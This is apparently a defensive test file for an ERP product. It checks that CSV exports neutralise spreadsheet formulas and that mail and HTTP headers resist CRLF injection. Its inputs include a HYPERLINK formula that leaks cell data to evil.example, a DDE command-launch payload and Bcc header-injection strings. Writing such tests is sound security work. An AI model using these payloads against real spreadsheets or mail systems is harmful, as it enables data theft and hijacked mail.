/**
 * Text that is stored and comes out elsewhere: in cells of CSV, in names of files, in headers of mails and of
 * answers. What it does in a browser is in e2e/attacks.test.ts.
 */
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { requestPasswordReset } from '../erp/identity/contract.ts'
import { updateEmailSettings } from '../erp/identity/email/contract.ts'
import { createUser, updateUser } from '../erp/identity/users/contract.ts'
import { cellOfText, textOfCell } from '../kernel/spreadsheets.ts'
import { createOwnExport, getOwnExport } from '../platform/exports/contract.ts'
import { postEntry, query } from '../testing/books.ts'
import { MailServer } from '../testing/mail-server.ts'
import { eventually, rawRequest } from '../testing/process.ts'
import { startTestProduct, testEnvironment, type TestProduct, type TestTenant } from '../testing/product.ts'
import { addUser } from '../testing/users.ts'
import { unzip } from '../testing/zip.ts'

const FORMULAS = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', "'=1", "''+1", '＝1+1', '=HYPERLINK("http://evil.example?"&A1)', '-2+3+cmd|\' /C calc\'!A0'] // prettier-ignore

let product: TestProduct
let tenant: TestTenant
let mailServer: MailServer

beforeAll(async () => {
  mailServer = await new MailServer().start()
  product = await startTestProduct({}, {}, testEnvironment({ SMTP_URL: mailServer.url }))
  tenant = await product.createTenant({ companyName: '=cmd "quoted"; filename=evil.exe' })
})
afterAll(async () => {
  await product?.stop()
  await mailServer?.stop()
})

describe('in the CSV of an export', () => {
  let files: Map<string, Buffer>
  const rowsOf = (table: string): Record<string, string>[] =>
    parse(files.get(`csv/${table}.csv`)!, { columns: true })
  const storedIn = (table: string) =>
    JSON.parse(files.get(`json/${table}.json`)!.toString()) as Record<string, unknown>[]

  beforeAll(async () => {
    for (const [index, formula] of FORMULAS.entries()) {
      await postEntry(tenant.admin, '1.50', { description: formula, reference: formula })
      const unit = { code: `U${index}`, name: formula, category: formula.slice(0, 40) }
      await tenant.admin.send('POST', '/api/v1/masters/units-of-measure', unit)
    }
    await query(product, tenant, `UPDATE core.app_user SET full_name = '=evil', metadata = '{"=a": "=b"}'`)
    // Of every table one row with text that was planted behind the product's back.
    await query(product, tenant, `UPDATE core.role SET description = '=planted'`)
    const { id } = (await tenant.admin.call(createOwnExport)).ok()
    await eventually(async () => {
      expect((await tenant.admin.call(getOwnExport, { params: { id } })).ok().state).toBe('done')
    })
    const headers = {
      authorization: `Bearer ${tenant.admin.options.token ?? ''}`,
      'x-tenant-id': tenant.code,
    }
    const response = await fetch(`${product.url}/api/v1/tenant/exports/${id}/file`, { headers })
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="[\w.-]+"$/)
    files = await unzip(Buffer.from(await response.arrayBuffer()))
  })

  test('no cell of any table is a formula', () => {
    const tables = [...files.keys()].filter((name) => name.startsWith('csv/'))
    expect(tables.length).toBeGreaterThan(15)
    for (const name of tables) {
      const cells = (parse(files.get(name)!) as string[][]).flat()
      const formulas = cells.filter(
        (cell) => /^[=+@\t\r\n＝＋－＠-]/.test(cell) && !/^-?\d+(?:\.\d+)?$/.test(cell),
      )
      expect([name, formulas]).toEqual([name, []])
    }
  })

  test('each text is read again as it was typed', () => {
    const [typed, written] = [storedIn('finance.journal_entry'), rowsOf('finance.journal_entry')]
    expect(typed.map(({ description }) => description).toSorted()).toEqual(FORMULAS.toSorted())
    expect(written.map(({ description = '' }) => textOfCell(description)).toSorted()).toEqual(
      FORMULAS.toSorted(),
    )
    // The rule of PostgreSQL and that of JavaScript are one.
    expect(written.map(({ reference }) => reference).toSorted()).toEqual(FORMULAS.map(cellOfText).toSorted())
  })

  test('amounts stay numbers, negative ones too', async () => {
    for (const { total } of rowsOf('finance.journal_entry')) expect(total).toMatch(/^\d+\.\d+$/)
    const balances = rowsOf('finance.account_balance')
    for (const { debit, credit } of balances)
      expect([debit, credit]).toEqual([
        expect.stringMatching(/^-?[\d.]+$/),
        expect.stringMatching(/^-?[\d.]+$/),
      ])
  })

  test('control: what is planted is in the JSON as it is', () => {
    expect(storedIn('core.role')[0]?.['description']).toBe('=planted')
    expect(rowsOf('core.role')[0]?.['description']).toBe("'=planted")
  })
})

test('a file of people to invite brings a text back that an export has written', async () => {
  const file = `fullName,email,role,phone\n"'=Ann","ann@invited.example","Viewer","'+49 30 1234"\n`
  const answer = await rawRequest(
    product.url,
    'POST',
    '/api/v1/users/invitations',
    {
      authorization: `Bearer ${tenant.admin.options.token ?? ''}`,
      'x-tenant-id': tenant.code,
      'content-type': 'text/csv',
    },
    file,
  )
  expect(answer.status).toBeLessThan(300)
  expect(answer.text).toContain('"phone":"+49 30 1234"')
  expect(answer.text).toContain('"fullName":"=Ann"')
})

describe('in the header of a mail', () => {
  const INJECTED = [
    'A\r\nBcc: evil@evil.example',
    'A\nBcc: evil@evil.example',
    'A\rBcc: evil@evil.example',
    'A\u2028Bcc: x',
    'A\u0000B',
  ]

  test.each(INJECTED)('%j is taken for no name and no address', async (text) => {
    const { id } = await addUser(product, tenant, 'Viewer')
    const params = { id }
    const answers = await Promise.all([
      tenant.admin.call(updateUser, { params, body: { fullName: text } }),
      tenant.admin.call(updateUser, { params, body: { email: `${text}@users.example` } }),
      tenant.admin.call(updateUser, { params, body: { email: `a@users.example${text}` } }),
      tenant.admin.call(updateEmailSettings, {
        params,
        body: { host: '127.0.0.1', port: 25, fromName: text },
      }),
      tenant.admin.call(updateEmailSettings, {
        params,
        body: { host: '127.0.0.1', port: 25, replyTo: `a@users.example${text}` },
      }),
      tenant.admin.call(updateEmailSettings, { params, body: { host: `127.0.0.1${text}`, port: 25 } }),
    ])
    const accepted = answers
      .map(({ status }, index) => (status < 300 ? index : -1))
      .filter((index) => index >= 0)
    // What Unicode calls another line is none in a header: it is encoded there.
    expect(accepted.filter((index) => !(text.includes('\u2028') && [0, 3].includes(index)))).toEqual([])
  })

  test('a name full of signs stays one name of one recipient', async () => {
    const { id } = (
      await tenant.admin.call(createUser, {
        body: { fullName: 'A" <evil@evil.example>, B', email: 'real@users.example', roleId: await roleId() },
      })
    ).ok()
    await tenant.admin.call(updateUser, {
      params: { id },
      body: { fullName: 'X\u2028Bcc: evil@evil.example' },
    })
    await product.anonymous
      .with({ tenant: tenant.code })
      .call(requestPasswordReset, { body: { email: 'real@users.example' } })
    await eventually(async () =>
      expect(
        mailServer.received.filter(({ to }) => to.includes('real@users.example')).length,
      ).toBeGreaterThan(1),
    )
    for (const { to, raw } of mailServer.received) {
      expect(to).toHaveLength(1)
      expect(to[0]).not.toContain('evil')
      const [head = ''] = raw.split('\r\n\r\n')
      expect(head).not.toMatch(/^(?:bcc|cc|x-injected):/im)
      expect(head.match(/^to:/gim)).toHaveLength(1)
    }
  })

  async function roleId(): Promise<string> {
    const [role] = await query<{ id: string }>(
      product,
      tenant,
      "SELECT id FROM core.role WHERE name = 'Viewer'",
    )
    return role!.id
  }
})

test('what a caller sends as its request id cannot begin another header', async () => {
  for (const id of ['a b', 'a\tb', 'ü', 'x'.repeat(129)]) {
    const answer = await rawRequest(product.url, 'GET', '/health/live', { 'x-request-id': id }).catch(
      () => undefined,
    )
    if (answer) expect(answer.headers['x-request-id']).toMatch(/^[0-9a-f-]{36}$/)
  }
})
